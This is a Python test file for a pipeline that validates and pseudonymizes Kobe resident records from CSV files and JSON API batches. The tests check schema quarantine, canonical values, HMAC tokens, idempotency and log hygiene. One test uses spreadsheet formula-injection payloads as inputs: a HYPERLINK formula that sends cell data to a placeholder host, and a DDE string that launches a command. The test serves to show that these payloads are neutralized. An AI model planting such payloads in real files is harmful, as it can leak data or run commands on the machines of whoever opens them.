"""Linkage handlers against moto: every input ends in exactly one place (raw zone, quarantine, refusal), once.

The datasets are the default config's (``resident-moves``: JSON through the API; ``resident-list``: a CP932 file of
ten columns), plus a few variants built through the same config path. Each test names the finding it covers.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
import gzip
import hmac
import json
import logging

import boto3
import linkage  # the function's folder, as Lambda loads it (tests/conftest.py)
import pytest
from linkage_platform import values
from linkage_platform.pseudonym import DERIVATION_LABEL, Pseudonymizer
from moto import mock_aws

from govcloud.config import parse
from govcloud.config.linkage import handler_datasets
from tests.conftest import config_data

TODAY = dt.date(2026, 11, 27)
REGION = "ap-northeast-1"
RR_ROLE = "arn:aws:iam::111100000003:role/kobe-stg-rr-linkage"
RR_SESSION = "arn:aws:sts::111100000003:assumed-role/kobe-stg-rr-linkage/host-1"
TAX_ROLE = "arn:aws:iam::111100000006:role/kobe-stg-tax-linkage"
LIST_HEADER = "record_id,住民票コード,氏名,氏名カナ,生年月日,性別,郵便番号,住所,異動日,世帯人数"


def _datasets() -> str:
    """The default config's datasets, and variants of the resident list: another encoding, a stricter guard."""
    data = copy.deepcopy(config_data())
    sets = data["linkage"]["datasets"]
    sets["list-sjis"] = {**copy.deepcopy(sets["resident-list"]), "encoding": "shift_jis"}
    sets["list-utf8"] = {**copy.deepcopy(sets["resident-list"]), "encoding": "utf-8"}
    sets["list-strict"] = {**copy.deepcopy(sets["resident-list"]), "formula_guard": "reject"}
    sets["moves-lines"] = {**copy.deepcopy(sets["resident-moves"])}
    return handler_datasets(parse(data, "kobe-stg with test datasets"))


DATASETS = _datasets()


@pytest.fixture(scope="module")
def aws():
    """One moto session and one set of clients for the module; each test starts from empty backends."""
    with pytest.MonkeyPatch.context() as patch:
        for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
            patch.setenv(key, "testing")
        patch.setenv("AWS_DEFAULT_REGION", REGION)
        with mock_aws() as mock:
            clients = {name: boto3.client(name, region_name=REGION) for name in ("s3", "kms", "events", "sqs")}
            kms_calls: list[str] = []
            clients["kms"].meta.events.register("before-call.kms", lambda model, **_: kms_calls.append(model.name))
            yield mock, clients, kms_calls


@pytest.fixture
def env(aws):
    mock, clients, kms_calls = aws
    mock.reset()
    kms_calls.clear()
    s3, kms, events, sqs = (clients[name] for name in ("s3", "kms", "events", "sqs"))
    for bucket in ("exchange", "raw"):
        s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
        s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Enabled"})
    key = kms.create_key(KeySpec="HMAC_256", KeyUsage="GENERATE_VERIFY_MAC")["KeyMetadata"]["KeyId"]
    events.create_event_bus(Name="linkage")
    queues = {}
    for system, detail_type in (("tax", linkage.ACCEPTED), ("resident-registry", "DatasetBatchQuarantined")):
        url = sqs.create_queue(QueueName=system)["QueueUrl"]
        arn = sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
        pattern = {"source": [linkage.EVENT_SOURCE], "detail-type": [detail_type]}
        events.put_rule(Name=f"to-{system}", EventBusName="linkage", EventPattern=json.dumps(pattern))
        events.put_targets(Rule=f"to-{system}", EventBusName="linkage", Targets=[{"Id": system, "Arn": arn}])
        queues[system] = url
    kms_calls.clear()
    return {
        "clients": linkage.Clients(s3=s3, raw_s3=s3, kms=kms, events=events),
        "settings": linkage.Settings(exchange_bucket="exchange", raw_bucket="raw", mac_key_id=key, event_bus="linkage"),
        "s3": s3,
        "sqs": sqs,
        "queues": queues,
        "kms": kms,
        "key": key,
        "kms_calls": kms_calls,
    }


def keys(s3, bucket: str, prefix: str = "") -> list[str]:
    pages = s3.get_paginator("list_objects_v2").paginate(Bucket=bucket, Prefix=prefix)
    return sorted(o["Key"] for page in pages for o in page.get("Contents", []))


def body(s3, bucket: str, key: str) -> bytes:
    return s3.get_object(Bucket=bucket, Key=key)["Body"].read()


def raw_rows(env) -> list[str]:
    """Every line of every object in the raw zone, decompressed."""
    return [
        line
        for k in keys(env["s3"], "raw")
        for line in gzip.decompress(body(env["s3"], "raw", k)).decode().splitlines()
    ]


def notices(env, system: str) -> list[dict]:
    messages = env["sqs"].receive_message(QueueUrl=env["queues"][system], MaxNumberOfMessages=10).get("Messages", [])
    return [json.loads(m["Body"])["detail"] for m in messages]


def api(env, method, dataset, caller=RR_SESSION, payload=None, record_id=None, idempotency_key="batch-1", **extra):
    event = {
        "httpMethod": method,
        "pathParameters": {"dataset": dataset, **({"id": record_id} if record_id else {})},
        "headers": {"Idempotency-Key": idempotency_key} if idempotency_key else {},
        "requestContext": {"identity": {"userArn": caller}},
        "body": None
        if payload is None
        else (payload if isinstance(payload, str) else json.dumps(payload, ensure_ascii=False)),
        **extra,
    }
    settings = extra.pop("settings", None) or env["settings"]
    response = linkage.handle_api(event, linkage.load_datasets(DATASETS), env["clients"], settings, TODAY)
    return {**json.loads(response["body"]), "status": response["statusCode"]}  # the HTTP status


def upload(env, key: str, content: bytes) -> dict:
    version = env["s3"].put_object(Bucket="exchange", Key=key, Body=content)["VersionId"]
    return {
        "detail-type": "Object Created",
        "detail": {"bucket": {"name": "exchange"}, "object": {"key": key, "version-id": version}},
    }


def file(env, key: str, content: bytes, settings=None) -> dict:
    return handle(env, upload(env, key, content), settings)


def handle(env, event: dict, settings=None) -> dict:
    return linkage.handle_file(
        event, linkage.load_datasets(DATASETS), env["clients"], settings or env["settings"], TODAY
    )


def token(env, value: str) -> str:
    """The expected token: HMAC-SHA-256 under the batch key KMS derives, first 128 bits."""
    batch_key = env["kms"].generate_mac(KeyId=env["key"], MacAlgorithm="HMAC_SHA_256", Message=DERIVATION_LABEL)["Mac"]
    return hmac.digest(batch_key, value.encode(), "sha256").hex()[:32]


MOVES = [
    {"record_id": "m-001", "resident_code": "12345678901", "name": "神戸 太郎", "address": "神戸市中央区加納町6-5-1",
     "moved_on": "2026-11-20", "household_size": 3},
    {"record_id": "m-002", "resident_code": "12345678902", "name": "神戸 花子", "address": "神戸市東灘区住吉東町5-2-1",
     "moved_on": "2026-11-21", "household_size": 1},
]  # fmt: skip


def list_row(record_id="r-1", code="12345678901", name="神戸 太郎", address="神戸市中央区加納町6-5-1", **over) -> str:
    row = {"record_id": record_id, "住民票コード": code, "氏名": name, "氏名カナ": "コウベ タロウ", "生年月日": "1980-04-01",
           "性別": "男", "郵便番号": "650-0001", "住所": address, "異動日": "2026-11-20", "世帯人数": "3", **over}  # fmt: skip
    return ",".join(row[c] for c in LIST_HEADER.split(","))


def resident_list(*rows: str, header: str = LIST_HEADER, encoding: str = "cp932") -> bytes:
    return ("\r\n".join([header, *rows]) + "\r\n").encode(encoding)


# ----- the API path -----


def test_a_valid_json_batch_reaches_the_raw_zone_with_only_what_the_dataset_declares_for_it(env) -> None:
    result = api(env, "POST", "resident-moves", payload=MOVES)
    assert result["status"] == 202 and result["accepted"] == 2 and not result.get("replayed")
    assert result["raw_key"] == f"dataset=resident-moves/date=2026-11-27/{result['batch']}.jsonl.gz"
    stored = [json.loads(line) for line in raw_rows(env)]
    assert [r["record_id"] for r in stored] == ["m-001", "m-002"]
    for original, row in zip(MOVES, stored, strict=True):
        assert set(row) == {"record_id", "resident_code", "name", "moved_on", "household_size"}  # no address
        assert row["resident_code"] == token(env, original["resident_code"]) != original["resident_code"]
        assert row["name"] == token(env, original["name"])
        assert row["moved_on"] == original["moved_on"]  # kept, with the reason the config gives
    assert "神戸" not in "".join(raw_rows(env))
    (detail,) = notices(env, "tax")
    assert detail == {
        "dataset": "resident-moves",
        "batch": result["batch"],
        "producer": "resident-registry",
        "records": 2,
        "date": "2026-11-27",
        "outbox": {"bucket": "exchange", "key": result["outbox_key"]},
    }


def test_subscribers_read_the_original_and_others_are_refused(env) -> None:
    api(env, "POST", "resident-moves", payload=MOVES)
    record = api(env, "GET", "resident-moves", caller=TAX_ROLE, record_id="m-001")
    assert record["status"] == 200 and record["name"] == "神戸 太郎" and record["address"] == MOVES[0]["address"]
    assert api(env, "GET", "resident-moves", caller=RR_ROLE, record_id="m-001")["status"] == 403  # not a subscriber
    assert api(env, "GET", "resident-moves", caller=TAX_ROLE, record_id="m-999")["status"] == 404
    assert api(env, "GET", "resident-moves", caller=TAX_ROLE, record_id="../x")["status"] == 400
    outbox = [
        json.loads(line)
        for line in body(env["s3"], "exchange", keys(env["s3"], "exchange", "outbox/")[0]).decode().splitlines()
    ]
    assert outbox[0]["address"] == MOVES[0]["address"]  # subscribers get every column
    tags = env["s3"].get_object_tagging(Bucket="exchange", Key=keys(env["s3"], "exchange", "outbox/")[0])["TagSet"]
    assert tags == [{"Key": "state", "Value": "committed"}]


def test_refusals_store_nothing(env) -> None:
    result = api(env, "POST", "resident-moves", caller=TAX_ROLE, payload=MOVES)
    assert result["status"] == 403 and "only the producer" in result["error"]
    assert api(env, "POST", "no-such-data", payload=MOVES)["status"] == 404
    assert api(env, "PUT", "resident-moves", payload=MOVES)["status"] == 405
    assert keys(env["s3"], "raw") == [] and keys(env["s3"], "exchange") == []


# ----- 1. strict schema -----


def test_an_undeclared_column_in_a_file_is_quarantined_never_stored(env) -> None:
    """Finding: a CSV with a 個人番号 column passed straight into the locked raw zone."""
    content = resident_list(list_row() + ",123456789012", header=LIST_HEADER + ",個人番号")
    result = file(env, "inbox/resident-list/resident-registry/list.csv", content)
    assert result["status"] == "quarantined"
    assert result["reason"].startswith("header field(s) 11 of 11 are not columns of the dataset; expected the columns")
    assert "個人番号" not in result["reason"]  # a header line can be data: positions only
    assert keys(env["s3"], "raw") == [] and keys(env["s3"], "exchange", "outbox/") == []
    stored = keys(env["s3"], "exchange", "quarantine/")
    assert body(env["s3"], "exchange", next(k for k in stored if k.endswith("/payload"))) == content  # nothing lost


def test_a_ragged_row_is_quarantined_with_its_row_number(env) -> None:
    """Finding: a row with an extra field put the overflow under a ``null`` key, into the raw zone."""
    content = resident_list(list_row("r-1"), list_row("r-2") + ",123456789012", list_row("r-3"))
    result = file(env, "inbox/resident-list/resident-registry/list.csv", content)
    assert result["status"] == "quarantined" and result["reason"] == "row 2: 11 fields where the header has 10"
    short = file(env, "inbox/resident-list/resident-registry/short.csv", resident_list("r-1,12345678901"))
    assert short["reason"] == "row 1: 2 fields where the header has 10"
    assert keys(env["s3"], "raw") == []


def test_an_undeclared_field_in_a_json_record_is_quarantined(env) -> None:
    bad = [MOVES[0], {**MOVES[1], "mynumber": "123456789012"}]
    result = api(env, "POST", "resident-moves", payload=bad)
    assert result["status"] == 422
    assert result["error"].startswith("record 2: 1 field(s) that are not columns of the dataset; expected exactly")
    assert "mynumber" not in result["error"] and keys(env["s3"], "raw") == []
    missing = api(env, "POST", "resident-moves", payload=[{k: v for k, v in MOVES[0].items() if k != "moved_on"}],
                  idempotency_key="batch-2")  # fmt: skip
    assert missing["status"] == 422 and "record 1: no column(s) moved_on" in missing["error"]


def test_dropped_columns_never_reach_the_data_lake_from_a_file(env) -> None:
    """Finding: the address column was never pseudonymized. Now the dataset drops it (and kana, birth date,
    postcode) from what the data lake receives; subscribers still get it."""
    result = file(env, "inbox/resident-list/resident-registry/list.csv", resident_list(list_row()))
    assert result["status"] == "accepted"
    header, row = raw_rows(env)
    assert header.split(",") == ["record_id", "住民票コード", "氏名", "性別", "異動日", "世帯人数"]
    assert row.split(",") == ["r-1", token(env, "12345678901"), token(env, "神戸 太郎"), "男", "2026-11-20", "3"]
    outbox = body(env["s3"], "exchange", result["outbox_key"]).decode("cp932")
    assert "神戸市中央区加納町6-5-1" in outbox and "コウベ タロウ" in outbox


# ----- 2. canonical values -----


@pytest.mark.parametrize(
    ("column", "value", "expected"),
    [
        ("世帯人数", "１２３", "an integer in ASCII digits"),  # full-width digits
        ("世帯人数", "3.0", "an integer in ASCII digits"),
        ("異動日", "2024-W01-1", "a date written YYYY-MM-DD"),  # an ISO week date
        ("異動日", "20240101", "a date written YYYY-MM-DD"),
        ("異動日", "2024-02-30", "a date written YYYY-MM-DD"),
        ("異動日", "２０２４-０１-０１", "a date written YYYY-MM-DD"),
        ("氏名", "", "non-empty text"),
    ],
)
def test_values_are_canonical_or_refused(env, column, value, expected) -> None:
    """Finding: １２３ and ٣ passed as integers, 2024-W01-1 as a date."""
    result = file(env, "inbox/resident-list/resident-registry/list.csv", resident_list(list_row(**{column: value})))
    assert result["status"] == "quarantined" and result["reason"] == f"row 1, column {column!r}: expected {expected}"


def test_digits_of_other_scripts_are_not_integers(env) -> None:
    """Finding: ٣ (Arabic-Indic three, which CP932 cannot carry) passed as an integer."""
    content = resident_list(list_row(世帯人数="٣"), encoding="utf-8")
    result = file(env, "inbox/list-utf8/resident-registry/list.csv", content)
    assert result["reason"] == "row 1, column '世帯人数': expected an integer in ASCII digits"
    moves = api(env, "POST", "resident-moves", payload=[{**MOVES[0], "household_size": "٣"}])
    assert (
        moves["status"] == 422
        and moves["error"] == "record 1, column 'household_size': expected an integer in ASCII digits"
    )


def test_decimals_are_finite_and_json_numbers_are_numbers() -> None:
    """Finding: NaN passed as a decimal. (No dataset of the default config has a decimal column.)"""
    for good in ("1", "-1.50", "2e3", 7, 1.5):
        assert values.is_decimal(good), good
    for bad in ("NaN", "nan", "Infinity", "-inf", "1_000", " 1", "１", float("nan"), float("inf"), True, None, ""):
        assert not values.is_decimal(bad), bad
    for good in ("0", "-12", 12):
        assert values.is_integer(good), good
    for bad in ("１２３", "٣", "+1", "1e3", True, 1.0, "", "-"):
        assert not values.is_integer(bad), bad


def test_nan_and_infinity_in_a_json_body_are_not_numbers(env) -> None:
    body_text = json.dumps([MOVES[0]]).replace('"household_size": 3', '"household_size": NaN')
    result = api(env, "POST", "resident-moves", payload=body_text)
    assert result["status"] == 422 and result["error"] == "not valid JSON (NaN and Infinity are not numbers)"


@pytest.mark.parametrize(
    "spellings",
    [
        ("山田　太郎", "山田 太郎", " 山田  太郎 ", "山田\t太郎"),  # ideographic space, runs of spaces, a tab
        ("ＡＢＣ１２３", "ABC123"),  # full-width and half-width letters and digits
        ("ﾔﾏﾀﾞ ﾀﾛｳ", "ヤマダ タロウ"),  # half-width and full-width katakana
        ("髙橋", "髙橋"),  # NFKC keeps 髙 (it is not a compatibility character of 高)
    ],
)
def test_identifiers_are_normalized_before_the_mac(env, spellings) -> None:
    """Finding: 山田　太郎 and 山田 太郎 got different tokens."""
    rows = [list_row(record_id=f"r-{i}", name=name) for i, name in enumerate(spellings)]
    assert file(env, "inbox/resident-list/resident-registry/list.csv", resident_list(*rows))["status"] == "accepted"
    tokens = {line.split(",")[2] for line in raw_rows(env)[1:]}
    assert len(tokens) == 1
    assert tokens == {token(env, values.canonical("string", spellings[-1]))}
    assert values.canonical("string", "ＡＢＣ１２３") == "ABC123"
    assert values.canonical("string", "髙橋") != values.canonical("string", "高橋")  # different people's names


def test_the_column_wise_fast_path_and_the_row_by_row_definition_agree(env) -> None:
    """Chunks are checked column by column; a chunk with doubt is redone row by row. Both give the same output,
    including for values NFKC changes, values with line breaks, and a formula that needs neutralizing."""
    from linkage_platform.schema import Transformer

    dataset = linkage.load_datasets(DATASETS)["resident-list"]
    pseudonymizer = Pseudonymizer(env["kms"], env["key"])
    header = LIST_HEADER.split(",")
    tricky = ["ＡＢＣ", "a\nb", "ｶﾞ", "e\u0301", "﨑", "a  b", "=SUM(1)", "x"]
    rows = [list_row(record_id=f"r-{i}", name=name).split(",") for i, name in enumerate(tricky)]
    rows[1][2] = "a\nb"
    fast = Transformer(dataset, pseudonymizer)
    fast.csv_header(header)
    slow = Transformer(dataset, pseudonymizer)
    slow.csv_header(header)
    outs, lakes = fast.csv_chunk(1, [r for r in rows if r[2] != "=SUM(1)"])
    expected = [slow.csv_row(i + 1, r) for i, r in enumerate(r for r in rows if r[2] != "=SUM(1)")]
    assert [list(o) for o in outs] == [list(e[0]) for e in expected]
    assert [list(lk) for lk in lakes] == [list(e[1]) for e in expected]
    outs, _ = fast.csv_chunk(1, rows)
    assert outs[6][2] == "'=SUM(1)" and fast.changed


def test_cp932_and_shift_jis_files_decode_one_way(env) -> None:
    """Finding: CP932 and Shift_JIS decode some bytes differently, so a resident got two tokens. Both are read as
    CP932 (Windows-31J, what the systems that call their files Shift_JIS write)."""
    differing = {b"\x81\x60": "～", b"\x81\x61": "∥", b"\x81\x7c": "－", b"\x81\x91": "￠", b"\x81\xca": "￢"}
    for raw_bytes, cp932 in differing.items():
        assert raw_bytes.decode("cp932") == cp932 != raw_bytes.decode("shift_jis")
    # IBM extensions and their NEC-selected duplicates (two byte pairs for one character), NEC special characters.
    extensions = {b"\xfb\xfc": "髙", b"\xee\xe0": "髙", b"\xfa\xb1": "﨑", b"\xed\x95": "﨑", b"\x87\x40": "①"}
    for encoded, char in extensions.items():
        assert encoded.decode("cp932") == char
        with pytest.raises(UnicodeDecodeError):
            encoded.decode("shift_jis")
    name = "髙﨑 ～①"
    content = resident_list(list_row(name=name, address="神戸市中央区１－２"))
    # One system writes 髙 as the IBM pair, another as the NEC-selected one: the same resident either way.
    ibm = content.replace("髙".encode("cp932"), b"\xfb\xfc").replace("﨑".encode("cp932"), b"\xfa\xb1")
    assert ibm != content
    by_cp932 = file(env, "inbox/resident-list/resident-registry/a.csv", content)
    by_sjis = file(env, "inbox/list-sjis/resident-registry/a.csv", content)
    by_ibm = file(env, "inbox/list-sjis/resident-registry/b.csv", ibm)
    assert by_cp932["status"] == by_sjis["status"] == by_ibm["status"] == "accepted"
    lines = raw_rows(env)
    tokens = {line.split(",")[2] for line in lines if line.startswith("r-1")}
    assert tokens == {token(env, values.canonical("string", name))}
    outbox = body(env["s3"], "exchange", by_sjis["outbox_key"]).decode("cp932")
    assert name in outbox and "神戸市中央区１－２" in outbox


def test_a_file_in_the_wrong_encoding_is_quarantined(env) -> None:
    content = resident_list(list_row())  # CP932 bytes
    result = file(env, "inbox/list-utf8/resident-registry/list.csv", content)
    assert (
        result["status"] == "quarantined" and result["reason"] == "not valid utf-8: bytes after row 0 cannot be decoded"
    )
    utf8 = file(env, "inbox/list-utf8/resident-registry/good.csv", resident_list(list_row(), encoding="utf-8-sig"))
    assert utf8["status"] == "accepted"  # with or without a byte-order mark


def test_text_a_spreadsheet_would_run_is_neutralized_for_subscribers(env) -> None:
    """Finding: =HYPERLINK(...) reached subscribers unchanged."""
    formula = '=HYPERLINK("http://example.invalid/?"&A1)'
    result = file(env, "inbox/resident-list/resident-registry/list.csv", resident_list(list_row(address=formula),
                  list_row(record_id="r-2", address="@SUM(A1)"), list_row(record_id="r-3", address="＝1+1")))  # fmt: skip
    assert result["status"] == "accepted"
    outbox = body(env["s3"], "exchange", result["outbox_key"]).decode("cp932")
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(outbox)))
    assert [r["住所"] for r in rows] == ["'" + formula, "'@SUM(A1)", "'＝1+1"]
    api_result = api(env, "POST", "resident-moves", payload=[{**MOVES[0], "address": "+cmd|' /C calc'!A0"}])
    assert api_result["status"] == 202
    record = api(env, "GET", "resident-moves", caller=TAX_ROLE, record_id="m-001")
    assert record["address"] == "'+cmd|' /C calc'!A0"
    assert record["household_size"] == 3  # numbers are not text: never prefixed


def test_a_dataset_may_reject_formulas_instead(env) -> None:
    result = file(
        env,
        "inbox/list-strict/resident-registry/list.csv",
        resident_list(list_row(), list_row(record_id="r-2", address="-1+2")),
    )
    assert result["status"] == "quarantined"
    assert result["reason"].startswith("row 2, column '住所': starts with a character a spreadsheet runs as a formula")
    assert keys(env["s3"], "raw") == []


# ----- 3. nothing personal in logs or errors -----

MARKER = "神戸市北区山田町下谷上字中一里山9-107"  # an address no test value contains otherwise


def test_no_input_value_reaches_a_log_line_an_error_or_a_stored_reason(env, caplog, monkeypatch) -> None:
    """Finding: a rejection carried the bad value ('resident_code' is not a valid string: 12345678901) and the
    handler logged it, in a log group kept 731 days."""
    caplog.set_level(logging.DEBUG)
    bad_batches = [
        [{**MOVES[0], "household_size": MARKER}],  # wrong type
        [{**MOVES[0], MARKER: "x"}],  # an undeclared field named by the value
        [{**MOVES[0], "record_id": MARKER}],  # an invalid key
        f'[{{"record_id": "{MARKER}", ',  # not JSON
    ]
    answers = [
        api(env, "POST", "resident-moves", payload=b, idempotency_key=f"bad-{i}") for i, b in enumerate(bad_batches)
    ]
    files = [
        resident_list(list_row(世帯人数=MARKER)),
        resident_list(list_row(), header=LIST_HEADER.replace("住所", MARKER)),
        resident_list(list_row() + "," + MARKER),
        resident_list(list_row(address=MARKER), encoding="utf-8"),  # UTF-8 where CP932 is expected
        (LIST_HEADER + "\r\n" + list_row(address=MARKER)).encode("cp932") + b"\xff\xfe",
        resident_list(list_row(address=MARKER)).replace(b",", b'"', 1),
    ]
    results = [file(env, f"inbox/resident-list/resident-registry/{i}.csv", f) for i, f in enumerate(files)]
    assert all(a["status"] == 422 for a in answers)
    assert [r["status"] for r in results] == ["quarantined"] * len(files)
    # The API handler's failure path: an exception whose text quotes the data.
    monkeypatch.setattr(linkage, "_datasets", lambda: linkage.load_datasets(DATASETS))
    monkeypatch.setattr(linkage, "_clients", lambda: (_ for _ in ()).throw(KeyError(MARKER)))
    failure = linkage.api_handler({"httpMethod": "POST", "pathParameters": {"dataset": "resident-moves"}}, None)
    assert failure["statusCode"] == 500
    with pytest.raises(linkage.FileBatchFailed) as raised:
        linkage.file_handler({"detail": {"object": {"key": "inbox/x/y/z"}}}, None)
    stored = [body(env["s3"], "exchange", k).decode("utf-8", "replace") for k in keys(env["s3"], "exchange")
              if k.endswith("reason.json") or k.startswith("batches/")]  # fmt: skip
    said = [json.dumps(a, ensure_ascii=False) for a in answers] + [json.dumps(r, ensure_ascii=False) for r in results]
    said += [
        failure["body"],
        str(raised.value),
        *stored,
        *(json.dumps(n, ensure_ascii=False) for n in notices(env, "resident-registry")),
    ]
    logged = [
        r.getMessage() + (r.exc_text or "") for r in caplog.records if not r.name.startswith(("moto", "werkzeug"))
    ]
    assert logged and stored and said
    for text in logged + said:
        assert MARKER not in text and "山田町" not in text, text


# ----- 4. idempotent, all-or-nothing batches -----


def test_a_retry_with_the_same_idempotency_key_returns_the_first_result_and_writes_nothing_twice(env) -> None:
    """Finding: a retry wrote a duplicate batch into the locked raw zone."""
    first = api(env, "POST", "resident-moves", payload=MOVES, idempotency_key="rr-2026-11-27-001")
    again = api(env, "POST", "resident-moves", payload=MOVES, idempotency_key="rr-2026-11-27-001")
    assert first["status"] == again["status"] == 202 and again["replayed"] is True
    assert {k: v for k, v in again.items() if k != "replayed"} == {k: v for k, v in first.items() if k != "replayed"}
    assert len(keys(env["s3"], "raw")) == 1 and len(notices(env, "tax")) == 1
    other = api(env, "POST", "resident-moves", payload=MOVES[:1], idempotency_key="rr-2026-11-27-001")
    assert other["status"] == 409 and "already used for a different batch" in other["error"]
    assert api(env, "POST", "resident-moves", payload=MOVES, idempotency_key=None)["status"] == 400
    assert api(env, "POST", "resident-moves", payload=MOVES, idempotency_key="has space")["status"] == 400


def test_a_file_event_delivered_twice_is_accepted_once(env) -> None:
    event = upload(env, "inbox/resident-list/resident-registry/list.csv", resident_list(list_row()))
    first, again = handle(env, event), handle(env, event)
    assert first["status"] == "accepted" and again["replayed"] is True and again["batch"] == first["batch"]
    assert len(keys(env["s3"], "raw")) == 1 and len(notices(env, "tax")) == 1
    assert keys(env["s3"], "exchange", "inbox/") == []  # the upload's version is removed, not just hidden
    assert env["s3"].list_object_versions(Bucket="exchange", Prefix="inbox/").get("Versions", []) == []


class Failing:
    """A client that fails on one operation (the first ``times`` calls of it), and passes everything else on."""

    def __init__(self, client, operation: str, times: int = 1) -> None:
        self._client, self._operation, self._left = client, operation, times

    def __getattr__(self, name):
        if name == self._operation and self._left > 0:
            self._left -= 1
            raise RuntimeError(f"{name} failed")
        return getattr(self._client, name)


@pytest.fixture
def small_parts(monkeypatch):
    """Multipart uploads from a few rows: parts of 256 bytes (moto's minimum set to match)."""
    from linkage_platform import batches

    monkeypatch.setattr(batches, "PART_SIZE", 256)
    monkeypatch.setattr("moto.s3.models.S3_UPLOAD_PART_MIN_SIZE", 256)


def test_a_failure_before_the_commit_leaves_nothing_visible(env) -> None:
    """Finding: a failure after some writes left the outbox and records written while the API answered 500.
    The raw zone write is the commit point: before it, subscribers and the data lake see nothing."""
    good = env["clients"]
    env["clients"] = linkage.Clients(
        s3=good.s3, raw_s3=Failing(good.raw_s3, "put_object"), kms=good.kms, events=good.events
    )
    with pytest.raises(RuntimeError):
        api(env, "POST", "resident-moves", payload=MOVES)
    assert keys(env["s3"], "raw") == [] and keys(env["s3"], "exchange", "records/") == []
    for key in keys(env["s3"], "exchange", "outbox/"):  # staged, which subscribers may not read (bucket policy)
        assert env["s3"].get_object_tagging(Bucket="exchange", Key=key)["TagSet"] == [
            {"Key": "state", "Value": "staged"}
        ]
    assert notices(env, "tax") == []
    env["clients"] = good
    retry = api(env, "POST", "resident-moves", payload=MOVES)
    assert retry["status"] == 202 and not retry.get("replayed")
    assert len(keys(env["s3"], "raw")) == 1 and len(keys(env["s3"], "exchange", "records/")) == 2


@pytest.mark.parametrize("operation", ["upload_part", "complete_multipart_upload"])
def test_a_multipart_write_that_fails_is_aborted_and_the_retry_writes_it_whole(env, small_parts, operation) -> None:
    rows = [list_row(record_id=f"r-{i}", code=f"{10000000000 + i}") for i in range(2000)]
    event = upload(env, "inbox/resident-list/resident-registry/list.csv", resident_list(*rows))
    good = env["clients"]
    env["clients"] = linkage.Clients(
        s3=good.s3, raw_s3=Failing(good.raw_s3, operation), kms=good.kms, events=good.events
    )
    with pytest.raises(RuntimeError):
        handle(env, event)
    assert keys(env["s3"], "raw") == [] and notices(env, "tax") == []
    assert env["s3"].list_multipart_uploads(Bucket="raw").get("Uploads", []) == []  # aborted, not left behind
    env["clients"] = good
    retry = handle(env, event)
    assert retry["status"] == "accepted" and len(keys(env["s3"], "raw")) == 1
    assert [line.split(",")[0] for line in raw_rows(env)[1:]] == [f"r-{i}" for i in range(2000)]
    assert len(notices(env, "tax")) == 1


def test_a_failure_after_the_commit_is_completed_by_the_retry_without_a_second_raw_object(env, monkeypatch) -> None:
    good = env["clients"]
    env["clients"] = linkage.Clients(
        s3=good.s3, raw_s3=good.raw_s3, kms=good.kms, events=Failing(good.events, "put_events")
    )
    monkeypatch.setattr(linkage, "_datasets", lambda: linkage.load_datasets(DATASETS))
    with pytest.raises(RuntimeError):
        api(env, "POST", "resident-moves", payload=MOVES)
    assert len(keys(env["s3"], "raw")) == 1  # committed
    env["clients"] = good
    retry = api(env, "POST", "resident-moves", payload=MOVES)
    assert retry["status"] == 202 and len(keys(env["s3"], "raw")) == 1  # If-None-Match kept the first
    assert len(notices(env, "tax")) == 1
    tags = env["s3"].get_object_tagging(Bucket="exchange", Key=retry["outbox_key"])["TagSet"]
    assert tags == [{"Key": "state", "Value": "committed"}]


def test_the_handlers_read_the_datasets_shipped_beside_them(tmp_path, monkeypatch) -> None:
    shipped = tmp_path / "datasets.json"
    shipped.write_text(DATASETS, encoding="utf-8")
    monkeypatch.setattr(linkage, "DATASETS_FILE", shipped)
    linkage._datasets.cache_clear()
    try:
        assert set(linkage._datasets()) == set(linkage.load_datasets(DATASETS))
    finally:
        linkage._datasets.cache_clear()


def test_the_api_handler_answers_500_with_the_retry_advice(monkeypatch) -> None:
    monkeypatch.setattr(linkage, "_datasets", lambda: linkage.load_datasets(DATASETS))
    monkeypatch.setattr(linkage, "_clients", lambda: (_ for _ in ()).throw(RuntimeError("no network")))
    response = linkage.api_handler({"httpMethod": "POST", "pathParameters": {"dataset": "resident-moves"}}, None)
    assert response["statusCode"] == 500 and "Retry with the same Idempotency-Key" in response["body"]


def test_an_oversized_request_gets_a_clear_413(env) -> None:
    small = linkage.Settings(exchange_bucket="exchange", raw_bucket="raw", mac_key_id=env["key"], event_bus="linkage",
                             api_max_bytes=1024)  # fmt: skip
    many = [{**MOVES[0], "record_id": f"m-{i:04d}"} for i in range(20)]
    event = {"httpMethod": "POST", "pathParameters": {"dataset": "resident-moves"}, "headers": {"idempotency-key": "k"},
             "requestContext": {"identity": {"userArn": RR_ROLE}}, "body": json.dumps(many, ensure_ascii=False)}  # fmt: skip
    response = linkage.handle_api(event, linkage.load_datasets(DATASETS), env["clients"], small, TODAY)
    assert response["statusCode"] == 413 and "upload it as a file to the inbox" in response["body"]
    assert keys(env["s3"], "exchange") == []
    encoded = {**event, "body": base64.b64encode(event["body"].encode()).decode(), "isBase64Encoded": True}
    assert (
        linkage.handle_api(encoded, linkage.load_datasets(DATASETS), env["clients"], small, TODAY)["statusCode"] == 413
    )


# ----- 5. scale: KMS calls do not grow with the rows -----


def test_a_batch_costs_one_kms_call_whatever_its_size(env) -> None:
    """Finding: one GenerateMac call per row. (make bench runs Kobe's 1.51 million rows.)"""
    for n, name in ((3, "small.csv"), (5000, "large.csv")):
        env["kms_calls"].clear()
        rows = [list_row(record_id=f"r-{i}", code=f"{10000000000 + i}") for i in range(n)]
        result = file(env, f"inbox/resident-list/resident-registry/{name}", resident_list(*rows))
        assert result["accepted"] == n and env["kms_calls"] == ["GenerateMac"]


def test_the_local_hmac_is_hmac_sha_256(env) -> None:
    pseudonymizer = Pseudonymizer(env["kms"], env["key"])
    for value in ("", "12345678901", "神戸 太郎", "x" * 200):
        assert pseudonymizer.token(value) == token(env, value)


def test_the_same_resident_gets_the_same_token_from_a_cp932_file_and_a_json_api_record(env) -> None:
    """Must show: the data lake (the subscriber of pseudonymized data) sees one resident as one token."""
    code, name = "12345678901", "神戸 太郎"
    api(env, "POST", "resident-moves", payload=[{**MOVES[0], "resident_code": code, "name": name}])
    file(env, "inbox/resident-list/resident-registry/list.csv", resident_list(list_row(code=code, name="神戸　太郎")))
